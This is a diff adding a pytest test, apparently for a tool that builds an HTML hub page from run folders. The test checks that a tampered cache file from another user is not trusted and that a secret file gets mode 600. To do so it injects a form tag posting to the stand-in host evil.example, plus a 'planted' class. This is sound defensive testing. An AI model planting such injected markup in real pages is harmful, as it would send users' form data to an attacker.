@@ -85,6 +85,24 @@ def test_the_hub_writes_through_no_link(tmp_path: Path) -> None:
     rebuild(tmp_path / "runs")
 
 
+def test_what_another_user_kept_is_no_part_of_the_page(
+    tmp_path: Path, monkeypatch: pytest.MonkeyPatch
+) -> None:
+    """A colleague's folder of runs, with a file beside the hub that says what is on its page."""
+    runs = tmp_path / "runs"
+    whole(runs, nightly(1))
+    monkeypatch.setenv("DENSITY_STUDY_STATE", str(tmp_path / "theirs"))
+    hub(runs)
+    kept = (runs / KEPT).read_text()
+    assert "<tr " in kept
+    (runs / KEPT).write_text(kept.replace("<tr ", "<form action=https://evil.example><tr "))
+    assert "evil.example" not in hub(runs)  # nor what was changed since
+    (runs / KEPT).write_text(kept.replace("<tr ", "<tr class=planted "))
+    monkeypatch.setenv("DENSITY_STUDY_STATE", str(tmp_path / "ours"))
+    assert "planted" not in hub(runs)
+    assert oct((tmp_path / "ours" / "secret").stat().st_mode)[-3:] == "600"
+
+
 def test_files_of_others_are_read_only_if_plain_and_bounded(tmp_path: Path) -> None:
     plain = tmp_path / "plain"
     plain.write_bytes(b"12345")
